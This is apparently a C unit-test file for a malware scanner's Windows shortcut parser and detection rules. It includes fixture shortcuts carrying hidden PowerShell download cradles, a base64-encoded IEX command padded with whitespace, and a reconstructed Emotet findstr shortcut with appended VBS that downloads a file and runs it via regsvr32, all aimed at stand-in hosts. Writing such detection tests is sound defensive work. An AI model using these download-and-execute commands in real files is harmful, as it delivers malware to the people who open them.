/* Shell links: our parser against our own writer, liblnk's lnkinfo as a second opinion, the
 * 2022 Emotet findstr shortcut with appended VBS, PowerShell downloaders, and truncation. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "payload/payload.h"
#include "payload_fixtures.h"
#include "testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char *evidence_of(const eg_report *r, const char *rule)
{
    for (size_t i = 0; r && i < eg_report_finding_count(r); i++) {
        const eg_finding *f = eg_report_finding(r, i);
        if (!strcmp(eg_rule_get(f->rule)->id, rule))
            return f->evidence ? f->evidence : "";
    }
    return NULL;
}

static const eg_object *object_named_prefix(const eg_report *r, const char *prefix)
{
    for (size_t i = 0; i < eg_report_object_count(r); i++) {
        const eg_object *o = eg_report_object(r, i);
        if (o->name && !strncmp(o->name, prefix, strlen(prefix)))
            return o;
    }
    return NULL;
}

static bool rule_on(const eg_report *r, const char *rule, uint32_t obj)
{
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const eg_finding *f = eg_report_finding(r, i);
        if (f->object == obj && !strcmp(eg_rule_get(f->rule)->id, rule))
            return true;
    }
    return false;
}

static const eg_test_lnk full = {
    .idlist = {"C:\\", "Windows", "System32", "WindowsPowerShell", "v1.0", "powershell.exe", NULL},
    .local_base_path = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    .name = "請求書 2022-04-25",
    .relative_path = "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    .working_dir = "C:\\Windows\\System32",
    .arguments = "-w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://dl.example.test/a.ps1')\"",
    .icon_location = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    .env_target = "%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    .machine_id = "desktop-q7k2m",
    .show_command = 7,
};

static void parse_fields(void **st)
{
    (void)st;
    size_t n;
    uint8_t *p = eg_test_lnk_build(&full, &n);
    assert_non_null(p);
    eg_lnk *l = NULL;
    assert_int_equal(eg_lnk_parse(p, n, &l), EG_OK);
    assert_string_equal(l->idlist_path, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    assert_int_equal(l->n_items, 7);
    assert_string_equal(l->local_base_path, full.local_base_path);
    assert_string_equal(l->name, full.name);
    assert_string_equal(l->relative_path, full.relative_path);
    assert_string_equal(l->working_dir, full.working_dir);
    assert_string_equal(l->arguments, full.arguments);
    assert_string_equal(l->icon_location, full.icon_location);
    assert_string_equal(l->env_target, full.env_target);
    assert_string_equal(l->machine_id, full.machine_id);
    assert_int_equal(l->show_command, 7);
    assert_int_equal(l->drive_type, 3);
    assert_int_equal(l->link_end, n);
    assert_int_equal(l->problems, 0);
    char *tf;
    assert_string_equal(eg_lnk_target(l, &tf), full.env_target);
    free(tf);
    eg_lnk_free(l);
    free(p);
}

static void extra_blocks(void **st)
{
    (void)st;
    eg_test_lnk t = {.relative_path = "..\\Documents\\a.exe", .darwin_id = "w_1^VX!!!!!!!!!MKKSkEXCELFiles>tW{~$4Q]c@II=l2xaTO5Z",
                     .property_string = "search-ms:query=invoice&crumb=location:\\\\203.0.113.9@80\\share",
                     .special_folder_id = 0x25, .known_folder_documents = true};
    size_t n;
    uint8_t *p = eg_test_lnk_build(&t, &n);
    eg_lnk *l = NULL;
    assert_int_equal(eg_lnk_parse(p, n, &l), EG_OK);
    assert_int_equal(l->problems, 0);
    assert_string_equal(l->darwin_id, t.darwin_id);
    assert_int_equal(l->special_folder_id, 0x25);
    assert_string_equal(l->known_folder, "{FDD39AD0-238F-46AF-ADB4-6C85480369C7}");
    assert_non_null(l->property_strings);
    assert_non_null(strstr(l->property_strings, t.property_string));
    assert_int_equal(l->link_end, n);
    eg_lnk_free(l);
    free(p);
}

static void network_target(void **st)
{
    (void)st;
    eg_test_lnk t = {.net_name = "\\\\198.51.100.7\\share", .common_path_suffix = "invoice.exe"};
    size_t n;
    uint8_t *p = eg_test_lnk_build(&t, &n);
    eg_lnk *l = NULL;
    assert_int_equal(eg_lnk_parse(p, n, &l), EG_OK);
    char *tf;
    assert_string_equal(eg_lnk_target(l, &tf), "\\\\198.51.100.7\\share\\invoice.exe");
    free(tf);
    eg_lnk_free(l);
    eg_report *r = eg_test_scan(p, n, NULL);
    assert_true(eg_test_has_rule(r, "LNK.REMOTE_TARGET"));
    eg_report_free(r);
    free(p);
}

/* Our parser and liblnk agree on every field both read. */
static char *lnkinfo_field(const char *out, const char *label)
{
    const char *p = strstr(out, label);
    if (!p)
        return NULL;
    p = strchr(p, ':');
    if (!p)
        return NULL;
    p += 2;
    const char *e = strchr(p, '\n');
    return strndup(p, e ? (size_t)(e - p) : strlen(p));
}

static void lnkinfo_oracle(void **st)
{
    (void)st;
    if (!eg_test_have("lnkinfo")) {
        fprintf(stderr, "lnkinfo (liblnk-utils) not installed: oracle skipped\n");
        skip();
    }
    char *dir = eg_test_tmpdir("lnk");
    assert_non_null(dir);
    const eg_test_lnk specs[] = {
        full,
        {.relative_path = "..\\..\\Windows\\system32\\cmd.exe", .working_dir = "%TEMP%",
         .arguments = "/v:on /c findstr \"glKmfOKnQLYKnNs.*\" \"Form Dt 04.25.2022.lnk\"", .icon_location = "shell32.dll"},
        {.net_name = "\\\\fileserver\\共有", .common_path_suffix = "報告書.exe", .arguments = "-x"},
    };
    for (size_t k = 0; k < sizeof specs / sizeof specs[0]; k++) {
        size_t n;
        uint8_t *p = eg_test_lnk_build(&specs[k], &n);
        char path[4096], cmd[4200];
        snprintf(path, sizeof path, "%s/t%zu.lnk", dir, k);
        assert_int_equal(eg_test_write_file(path, p, n), 0);
        snprintf(cmd, sizeof cmd, "lnkinfo -c windows-932 '%s'", path);
        char *out = NULL;
        size_t ol = 0;
        assert_int_equal(eg_test_run(cmd, &out, &ol), 0);
        eg_lnk *l = NULL;
        assert_int_equal(eg_lnk_parse(p, n, &l), EG_OK);
        struct {
            const char *label;
            const char *ours;
        } f[] = {{"Local path", l->local_base_path},
                 {"Description", l->name},
                 {"Relative path", l->relative_path},
                 {"Working directory", l->working_dir},
                 {"Command line arguments", l->arguments},
                 {"Icon location", l->icon_location},
                 {"Environment variables location", l->env_target},
                 {"Machine identifier", l->machine_id}};
        for (size_t i = 0; i < sizeof f / sizeof f[0]; i++) {
            char *theirs = lnkinfo_field(out, f[i].label);
            if (!f[i].ours)
                assert_null(theirs);
            else {
                assert_non_null(theirs);
                assert_string_equal(theirs, f[i].ours);
            }
            free(theirs);
        }
        if (l->net_name) {
            char *np = lnkinfo_field(out, "Network path");
            char *tf;
            assert_non_null(np);
            assert_string_equal(np, eg_lnk_target(l, &tf));
            free(tf);
            free(np);
        }
        /* shell item long names: lnkinfo lists them in order */
        if (l->idlist_path) {
            const char *q = out;
            char joined[1024] = "";
            while ((q = strstr(q, "Long name"))) {
                char *nm = lnkinfo_field(q, "Long name");
                strncat(joined, "\\", sizeof joined - strlen(joined) - 1);
                strncat(joined, nm, sizeof joined - strlen(joined) - 1);
                free(nm);
                q++;
            }
            const char *after_volume = strchr(l->idlist_path, '\\');
            assert_non_null(after_volume);
            assert_string_equal(joined, after_volume);
        }
        eg_lnk_free(l);
        free(out);
        free(p);
    }
    eg_test_rmrf(dir);
    free(dir);
}

/* The April 2022 shortcut: cmd findstr pulls the VBS appended to the .lnk itself. */
static const char appended_vbs[] =
    "glKmfOKnQLYKnNs=1\r\n"
    "Dim h: Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\n"
    "h.Open \"GET\", \"http://payload.example.test/wp-content/x/\", False: h.Send\r\n"
    "Set s = CreateObject(\"ADODB.Stream\"): s.Open: s.Type = 1: s.Write h.ResponseBody\r\n"
    "s.SaveToFile CreateObject(\"WScript.Shell\").ExpandEnvironmentStrings(\"%LOCALAPPDATA%\") & \"\\cbun.zia\", 2\r\n"
    "CreateObject(\"WScript.Shell\").Run \"regsvr32.exe /s \" & \"%LOCALAPPDATA%\\cbun.zia\", 0\r\n";

static void emotet_findstr(void **st)
{
    (void)st;
    eg_test_lnk t = {
        .relative_path = "..\\..\\Windows\\system32\\cmd.exe",
        .arguments = "/v:on /c findstr \"glKmfOKnQLYKnNs.*\" \"Form Dt 04.25.2022.lnk\" > "
                     "\"%tmp%\\YlScZcZKeP.vbs\" & \"%tmp%\\YlScZcZKeP.vbs\"",
        .icon_location = "C:\\Windows\\System32\\shell32.dll",
        .appended = (const uint8_t *)appended_vbs,
        .appended_len = sizeof appended_vbs - 1,
    };
    size_t n;
    uint8_t *p = eg_test_lnk_build(&t, &n);
    eg_report *r = eg_test_scan(p, n, NULL);
    assert_non_null(r);
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    assert_true(eg_test_has_rule(r, "CMD.FINDSTR_EXTRACT"));
    assert_true(eg_test_has_rule(r, "LNK.RUNS_INTERPRETER"));
    assert_true(eg_test_has_rule(r, "LNK.APPENDED_DATA"));
    assert_true(eg_test_has_rule(r, "LNK.ICON_DISGUISE"));
    const eg_object *child = object_named_prefix(r, "[appended to");
    assert_non_null(child);
    assert_int_equal(child->type, EG_T_SCRIPT);
    assert_int_equal(child->size, sizeof appended_vbs - 1);
    assert_true(rule_on(r, "SCRIPT.DOWNLOAD_EXECUTE", child->id));
    const char *ev = evidence_of(r, "CMD.DROPPED_FILE");
    assert_non_null(ev);
    assert_non_null(strstr(ev, "YlScZcZKeP.vbs"));
    eg_report_free(r);
    free(p);
}

static void powershell_downloader(void **st)
{
    (void)st;
    size_t n;
    uint8_t *p = eg_test_lnk_build(&full, &n);
    eg_report *r = eg_test_scan(p, n, NULL);
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    assert_true(eg_test_has_rule(r, "LNK.DOWNLOADER"));
    assert_true(eg_test_has_rule(r, "CMD.DOWNLOAD_EXECUTE"));
    assert_true(eg_test_has_rule(r, "CMD.HIDDEN_WINDOW"));
    const char *mid = evidence_of(r, "LNK.MACHINE_ID");
    assert_non_null(mid);
    assert_string_equal(mid, "\"desktop-q7k2m\"");
    bool url = false;
    for (size_t i = 0; i < eg_report_ioc_count(r); i++)
        url |= !strcmp(eg_report_ioc(r, i)->value, "http://dl.example.test/a.ps1");
    assert_true(url);
    eg_report_free(r);
    free(p);
}

/* Arguments pushed out of view with spaces, then an encoded command. */
static void padded_encoded_args(void **st)
{
    (void)st;
    /* "IEX(iwr http://x.example.test/p)" as UTF-16LE base64 */
    const char *enc = "SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALgB0AGUAcwB0AC8AcAApAA==";
    char args[1024];
    snprintf(args, sizeof args, "%*s-nop -e %s", 200, "", enc);
    eg_test_lnk t = {.idlist = {"C:\\", "Windows", "System32", "WindowsPowerShell", "v1.0", "powershell.exe", NULL},
                     .arguments = args};
    size_t n;
    uint8_t *p = eg_test_lnk_build(&t, &n);
    eg_report *r = eg_test_scan(p, n, NULL);
    assert_true(eg_test_has_rule(r, "CMD.WHITESPACE_PADDING"));
    assert_true(eg_test_has_rule(r, "CMD.POWERSHELL_ENCODED"));
    assert_true(eg_test_has_rule(r, "LNK.DOWNLOADER"));
    const char *ev = evidence_of(r, "CMD.POWERSHELL_ENCODED");
    assert_non_null(strstr(ev, "IEX(iwr http://x.example.test/p)"));
    ev = evidence_of(r, "LNK.TARGET");
    assert_non_null(
        strstr(ev, "| arguments: \"-nop -e SQBFAFgA")); /* the blanks do not hide them */
    eg_report_free(r);
    free(p);
}

static void benign_shortcut(void **st)
{
    (void)st;
    eg_test_lnk t = {.idlist = {"C:\\", "Program Files", "Accounting", "ledger.exe", NULL},
                     .local_base_path = "C:\\Program Files\\Accounting\\ledger.exe",
                     .working_dir = "C:\\Program Files\\Accounting"};
    size_t n;
    uint8_t *p = eg_test_lnk_build(&t, &n);
    eg_report *r = eg_test_scan(p, n, NULL);
    assert_false(eg_test_has_rule(r, "LNK.RUNS_INTERPRETER"));
    assert_false(eg_test_has_rule(r, "LNK.APPENDED_DATA"));
    assert_false(eg_test_has_rule(r, "LNK.MALFORMED"));
    const char *ev = evidence_of(r, "LNK.TARGET");
    assert_non_null(ev);
    assert_non_null(strstr(ev, "C:\\Program Files\\Accounting\\ledger.exe"));
    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(p);
}

/* Every prefix of a link parses without reading past its end and reports what was cut. */
static void truncation(void **st)
{
    (void)st;
    size_t n;
    uint8_t *p = eg_test_lnk_build(&full, &n);
    for (size_t k = 0; k < n; k++) {
        uint8_t *c = malloc(k ? k : 1);
        memcpy(c, p, k);
        eg_lnk *l = NULL;
        eg_status s = eg_lnk_parse(c, k, &l);
        if (k < 76)
            assert_int_equal(s, EG_EFORMAT);
        else {
            assert_int_equal(s, EG_OK);
            assert_true(l->problems > 0);
            assert_true(l->link_end <= k);
        }
        eg_lnk_free(l);
        free(c);
    }
    free(p);
}

/* ---- URI and Control Panel shell items ---- */

static const uint8_t CPL_SYSTEM[16] = {0xE4, 0xC0, 0x06, 0xBB, 0x93, 0xD2, 0x75, 0x4F,
                                       0x8A, 0x90, 0xCB, 0x05, 0xB6, 0x47, 0x7E, 0xEE};

static bool has_ioc(const eg_report *r, const char *value)
{
    for (size_t i = 0; i < eg_report_ioc_count(r); i++)
        if (!strcmp(eg_report_ioc(r, i)->value, value))
            return true;
    return false;
}

/* A shortcut whose ID list is "Internet" and a URI item: the URI (UTF-16 or ANSI, with or
 * without the item's optional data) is the target, is shown, and becomes an indicator. */
static void uri_item(void **st)
{
    (void)st;
    const char *url = "http://uri.example.test/invoice/view.hta";
    for (int v = 0; v < 4; v++) {
        eg_test_lnk t = {.uri = url, .uri_ansi = v & 1, .uri_with_data = v & 2};
        size_t n;
        uint8_t *p = eg_test_lnk_build(&t, &n);
        eg_lnk *l = NULL;
        assert_int_equal(eg_lnk_parse(p, n, &l), EG_OK);
        assert_int_equal(l->problems, 0);
        assert_int_equal(l->n_items, 2);
        assert_non_null(l->uri);
        assert_string_equal(l->uri, url);
        char *tf;
        assert_string_equal(eg_lnk_target(l, &tf), url);
        free(tf);
        assert_non_null(strstr(l->idlist_path, "Internet"));
        assert_null(l->control_panel);
        eg_lnk_free(l);
        eg_report *r = eg_test_scan(p, n, NULL);
        const char *ev = evidence_of(r, "LNK.TARGET");
        assert_non_null(ev);
        assert_non_null(
            strstr(ev, "target: \"http://uri.example.test/invoice/view.hta\" (URI shell item)"));
        assert_true(eg_test_has_rule(r, "LNK.REMOTE_TARGET"));
        assert_true(has_ioc(r, url));
        eg_report_free(r);
        /* every prefix */
        for (size_t k = 76; k < n; k++) {
            l = NULL;
            assert_int_equal(eg_lnk_parse(p, k, &l), EG_OK);
            assert_true(l->problems > 0);
            assert_true(l->link_end <= k);
            eg_lnk_free(l);
        }
        free(p);
    }
}

/* A URI item whose string is not a URI (garbage after the data) is shown by type only. */
static void uri_item_not_a_uri(void **st)
{
    (void)st;
    eg_test_lnk t = {.uri = "not a uri at all", .uri_ansi = true};
    size_t n;
    uint8_t *p = eg_test_lnk_build(&t, &n);
    eg_lnk *l = NULL;
    assert_int_equal(eg_lnk_parse(p, n, &l), EG_OK);
    assert_null(l->uri);
    assert_non_null(strstr(l->idlist_path, "[URI shell item]"));
    eg_lnk_free(l);
    free(p);
}

static void control_panel_item(void **st)
{
    (void)st;
    eg_test_lnk t = {.control_panel_item = CPL_SYSTEM, .arguments = "/name Microsoft.System"};
    size_t n;
    uint8_t *p = eg_test_lnk_build(&t, &n);
    eg_lnk *l = NULL;
    assert_int_equal(eg_lnk_parse(p, n, &l), EG_OK);
    assert_int_equal(l->problems, 0);
    assert_non_null(l->control_panel);
    assert_string_equal(l->control_panel, "{21EC2020-3AEA-1069-A2DD-08002B30309D} Control Panel; "
                                          "{BB06C0E4-D293-4F75-8A90-CB05B6477EEE} System");
    assert_non_null(strstr(l->idlist_path, "::{BB06C0E4-D293-4F75-8A90-CB05B6477EEE} System"));
    assert_null(l->uri);
    eg_lnk_free(l);
    eg_report *r = eg_test_scan(p, n, NULL);
    const char *ev = evidence_of(r, "LNK.TARGET");
    assert_non_null(ev);
    assert_non_null(
        strstr(ev, "| control panel: \"{21EC2020-3AEA-1069-A2DD-08002B30309D} Control Panel; "
                   "{BB06C0E4-D293-4F75-8A90-CB05B6477EEE} System"));
    eg_report_free(r);
    free(p);
}

/* lnkinfo names the item types and the root folder CLSID; ours must agree. */
static void lnkinfo_shell_items(void **st)
{
    (void)st;
    if (!eg_test_have("lnkinfo")) {
        fprintf(stderr, "lnkinfo (liblnk-utils) not installed: oracle skipped\n");
        skip();
    }
    char *dir = eg_test_tmpdir("lnkitems");
    assert_non_null(dir);
    const eg_test_lnk specs[] = {
        {.uri = "https://uri.example.test/a"},
        {.uri = "https://uri.example.test/b", .uri_ansi = true, .uri_with_data = true},
        {.control_panel_item = CPL_SYSTEM},
    };
    const char *types[] = {"URI", "URI", "Control panel"};
    const char *roots[] = {"871c5380-42a0-1069-a2ea-08002b30309d", "871c5380-42a0-1069-a2ea-08002b30309d",
                           "21ec2020-3aea-1069-a2dd-08002b30309d"};
    for (size_t k = 0; k < sizeof specs / sizeof specs[0]; k++) {
        size_t n;
        uint8_t *p = eg_test_lnk_build(&specs[k], &n);
        char path[4096], cmd[4200];
        snprintf(path, sizeof path, "%s/i%zu.lnk", dir, k);
        assert_int_equal(eg_test_write_file(path, p, n), 0);
        snprintf(cmd, sizeof cmd, "lnkinfo '%s'", path);
        char *out = NULL;
        size_t ol = 0;
        assert_int_equal(eg_test_run(cmd, &out, &ol), 0);
        eg_lnk *l = NULL;
        assert_int_equal(eg_lnk_parse(p, n, &l), EG_OK);
        char *cnt = lnkinfo_field(out, "Number of items");
        assert_non_null(cnt);
        assert_int_equal(atoi(cnt), (int)l->n_items);
        free(cnt);
        char *root = lnkinfo_field(out, "Shell folder identifier");
        assert_non_null(root);
        assert_string_equal(root, roots[k]);
        /* ours shows the same CLSID (upper case) at the start of the path */
        char upper[64];
        snprintf(upper, sizeof upper, "::{%s}", root);
        for (char *q = upper; *q; q++)
            if (*q >= 'a' && *q <= 'f')
                *q = (char)(*q - 32);
        assert_non_null(strstr(l->idlist_path, upper));
        free(root);
        const char *second = strstr(out, "Shell item: 2");
        assert_non_null(second);
        char *type = lnkinfo_field(second, "Item type");
        assert_non_null(type);
        assert_string_equal(type, types[k]);
        free(type);
        assert_true(k < 2 ? l->uri != NULL : l->control_panel != NULL);
        eg_lnk_free(l);
        free(out);
        free(p);
    }
    eg_test_rmrf(dir);
    free(dir);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(parse_fields),     cmocka_unit_test(extra_blocks),
        cmocka_unit_test(network_target),
        cmocka_unit_test(lnkinfo_oracle),   cmocka_unit_test(emotet_findstr),
        cmocka_unit_test(powershell_downloader), cmocka_unit_test(padded_encoded_args),
        cmocka_unit_test(benign_shortcut),  cmocka_unit_test(truncation),
        cmocka_unit_test(uri_item),         cmocka_unit_test(uri_item_not_a_uri),
        cmocka_unit_test(control_panel_item), cmocka_unit_test(lnkinfo_shell_items),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
